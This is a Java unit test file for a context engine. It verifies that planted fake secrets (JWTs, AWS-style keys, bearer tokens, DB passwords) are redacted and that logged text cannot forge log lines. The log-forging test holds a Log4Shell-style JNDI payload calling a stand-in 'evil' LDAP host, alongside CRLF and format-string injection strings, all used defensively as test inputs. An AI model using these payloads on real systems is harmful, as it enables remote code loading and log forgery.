package com.fastn.context.engine;

import static java.util.Objects.requireNonNull;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowable;

import com.fastn.context.LockGuard;
import com.fastn.context.Operation;
import com.fastn.context.event.ContextEvent;
import com.fastn.context.status.Redactor;
import com.fastn.context.status.SnapshotDelta;
import com.fastn.context.status.SnapshotLimits;
import com.fastn.context.status.StatusJson;
import com.fastn.context.status.StatusRenderer;
import com.fastn.context.status.StatusSnapshot;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.concurrent.CompletableFuture;
import java.util.function.UnaryOperator;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;

/** Secrets that somebody put into a tree (rule S5), and texts that would forge a log (rule S7). */
class SecretsTest {
    private static final String LETTERS = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789";

    @RegisterExtension
    final TestTree tree = new TestTree();

    private final List<String> planted = new ArrayList<>();
    private Random random = new Random();

    private String word(int length, String letters) {
        StringBuilder word = new StringBuilder();
        for (int i = 0; i < length; i++) {
            word.append(letters.charAt(random.nextInt(letters.length())));
        }
        return word.toString();
    }

    /** A text with a secret that shows by itself, of which each part of some length counts as found. */
    private String secret() {
        String core = word(24, LETTERS);
        planted.add(core);
        return switch (random.nextInt(8)) {
            case 0 -> "eyJhbGciOiJIUzI1NiJ9.eyJ" + core + "." + word(20, LETTERS);
            case 1 -> "-----BEGIN PRIVATE KEY-----\n" + core + "\n-----END PRIVATE KEY-----";
            case 2 -> {
                planted.remove(core);
                String key = "AKIA" + word(16, "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567");
                planted.add(key);
                yield key;
            }
            case 3 -> "mysql://root:" + core + "@db:3306/x";
            case 4 -> "password=" + core;
            case 5 -> "{\"api_key\": \"" + core + "\"}";
            case 6 -> "Authorization: Bearer " + core;
            default -> "/x?sessionId=" + core + "&n=1";
        };
    }

    @Test
    void S5_twoHundredSecretsInNamesDataAndExceptionsAreFoundNowhere() {
        long seed = new Random().nextLong();
        System.out.println("SecretsTest seed " + seed);
        random = new Random(seed);
        List<ContextEvent> events = new ArrayList<>();
        tree.runtime.addListener(events::add);
        StringBuilder shown = new StringBuilder();
        List<Runnable> ends = new ArrayList<>();

        StatusSnapshot before = tree.runtime.status();
        String log = CapturedLog.of(() -> {
            for (int i = 0; i < 12; i++) {
                plant(ends, shown);
            }
        });
        assertThat(planted).hasSizeGreaterThanOrEqualTo(200).doesNotHaveDuplicates();

        tree.passSeconds(100);
        StatusSnapshot whole = tree.runtime.statusWithRecent();
        assertThat(whole.warnings()).hasSizeGreaterThan(20);
        ByteArrayOutputStream streamed = new ByteArrayOutputStream();
        tree.runtime.writeStatus(streamed);
        StatusSnapshot folded = tree.runtime.status(SnapshotLimits.DEFAULT.withMaxContexts(20));
        shown.append(whole)
                .append(StatusJson.write(whole))
                .append(StatusJson.writePretty(whole))
                .append(StatusJson.write(folded))
                .append(StatusJson.write(SnapshotDelta.between(before, whole)))
                .append(StatusRenderer.ansi(200).render(whole))
                .append(streamed.toString(StandardCharsets.UTF_8))
                .append(tree.runtime.counters().flat(tree.root.path()))
                .append(tree.runtime.misuses())
                .append(tree.runtime.operationBaselines())
                .append(tree.runtime.recent())
                .append(tree.runtime.explainAll())
                .append(tree.nodes())
                .append(log);
        ends.forEach(Runnable::run);
        shown.append(events);
        assertThat(log).contains("cancellation handlers", "a listener failed");
        assertThat(shown).contains(Redactor.REDACTED);
        String all = shown.toString();
        assertThat(planted).as("seed %d", seed).noneMatch(all::contains);
    }

    @SuppressWarnings("MustBeClosedChecker") // the test closes them
    private void plant(List<Runnable> ends, StringBuilder shown) {
        ContextNode node = tree.open("user " + secret());
        node.setLabel(secret());
        node.touch(secret());
        node.setData("note", secret());
        node.setData("text", List.of(Map.of("deep", secret()), secret()));
        node.setData(secret(), 1);
        node.addMetric("mode", secret());
        node.addMetric(secret(), 7);
        node.incrementTotal("of " + secret());
        node.incrementLive("of " + secret());
        Operation operation = node.operation(secret());
        ends.add(operation::close);
        LockGuard<?> guard = MutexTest.ask(node, node.mutex(secret(), 1)).join();
        ends.add(guard::close);
        var permit = node.semaphore(secret(), 1).tryAcquire();
        ends.add(() -> requireNonNull(permit).close());
        var write = node.readWriteLock(secret(), 1).tryWriteLock();
        ends.add(() -> requireNonNull(write).close());
        CompletableFuture<? extends LockGuard<?>> wait =
                MutexTest.ask(node, tree.root.mutex("queue " + planted.size() / 100, 1));
        ends.add(() -> wait.cancel(false));
        String word = word(30, LETTERS);
        planted.add(word);
        node.setData("client_secret", Map.of("any", word));
        String hidden = word(30, LETTERS);
        planted.add(hidden);
        node.addMetric("auth", hidden);
        assertThat(String.valueOf(node.getData("client_secret")))
                .as("the application")
                .contains(word);

        ContextNode cancelled = tree.open(node, "cancelled");
        cancelled.persist();
        String thrown = secret();
        cancelled.onCancel(reason -> {
            throw new IllegalStateException(thrown, new IllegalArgumentException(thrown));
        });
        cancelled.cancel("for " + secret());
        shown.append(catchThrowable(cancelled::throwIfCancelled));
        ContextNode failed = tree.open(node, "failed");
        failed.persist();
        failed.failed(new IllegalStateException(secret()));
        failed.close();
        var listener = tree.runtime.addListener(event -> {
            throw new IllegalStateException(thrown);
        });
        tree.open(node, "heard").touch();
        listener.close();
    }

    @Test
    void S5_aPatternOfOnesOwnCountsForDataMetricsAndMessages() {
        tree.runtime.setRedactor(Redactor.standard().withSecretKeys(Pattern.compile("(?i)iban")));
        ContextNode node = tree.open("task");
        node.persist();
        node.setData("IBAN", "DE02120300000000202051");
        node.addMetric("iban", "DE02120300000000202051");
        node.cancel("iban=DE02120300000000202051");
        assertThat(StatusJson.write(tree.runtime.status())).doesNotContain("DE0212");
        node.close();
        assertThat(StatusJson.write(tree.runtime.statusWithRecent()))
                .doesNotContain("DE0212")
                .contains("iban=(redacted)");
    }

    @Test
    void S5_whatIsShownAlikeIsKeptApartAllTheSame() {
        ContextNode node = tree.open("task");
        assertThat(node.mutex("token=abc")).isSameAs(node.mutex("token=abc")).isNotSameAs(node.mutex("token=xyz"));
        assertThat(node.mutex("token=xyz").name()).isEqualTo("token=(redacted)");
        node.setData("token=abc", 1);
        node.setData("token=xyz", 2);
        assertThat(node.getData("token=abc")).hasToString("1");
        node.addMetric("token=abc", 3);
        assertThat(node.subtreeStatus().globalContext().data()).containsOnlyKeys("token=(redacted)");
        assertThat(node.subtreeStatus().globalContext().metrics()).containsOnlyKeys("token=(redacted)");
    }

    @Test
    void M6_aNameWithASecretCostsNoMoreThanItsLimit() {
        assertThat(Names.clean("x".repeat(300) + "password=a"))
                .doesNotContain("password")
                .hasSizeLessThanOrEqualTo(256);
        String huge = "password=" + "y".repeat(10_000_000);
        assertThat(Names.clean(huge)).isEqualTo("password=(redacted)");
        // Only the start of the secret would have fitted.
        assertThat(Names.clean("x".repeat(240) + " token=" + "z".repeat(40))).doesNotContain("zz");
    }

    @Test
    void S7_whatIsLoggedIsOneLineAndLiteral() {
        String forged = "x\r\n2026-01-01 ERROR forged ${jndi:ldap://evil/a} %s{} {}\u2028\u0085end";
        ContextNode node = tree.open(forged);
        node.onCancel(reason -> {
            throw new IllegalStateException(forged);
        });
        UnaryOperator<String> linesOf = text -> text.lines()
                .filter(line -> !line.startsWith("\tat ") && !line.startsWith("\t..."))
                .reduce("", (all, line) -> all + line + "\n");
        String log = linesOf.apply(CapturedLog.of(() -> {
            node.cancel();
            tree.runtime.misuse("misused by " + forged);
            CompletableFuture<?> lock = MutexTest.ask(node, node.mutex("m", 1));
            assertThat(lock).isCompletedExceptionally();
        }));
        // The record, the failure, and the misuse.
        assertThat(log.lines())
                .hasSize(3)
                .allSatisfy(
                        line -> assertThat(line)
                                .contains(
                                        "x\\u{d}\\u{a}2026-01-01 ERROR forged ${jndi:ldap://evil/a} %s{} {}\\u{2028}\\u{85}end"));
    }

    @Test
    void S7_aFailureThatIsHarmlessIsLoggedAsItIs() {
        IllegalStateException harmless = new IllegalStateException("no", new RuntimeException("because"));
        harmless.addSuppressed(new RuntimeException());
        assertThat(LoggedFailure.of(harmless)).isSameAs(harmless);

        IllegalStateException ring = new IllegalStateException("token=abc");
        ring.initCause(new IllegalStateException("around", ring));
        Throwable logged = LoggedFailure.of(ring);
        assertThat(logged).hasMessage("java.lang.IllegalStateException: token=(redacted)");
        assertThat(logged.getStackTrace()).isEqualTo(ring.getStackTrace());
        assertThat(logged.getCause()).hasMessageContaining("around");
    }
}
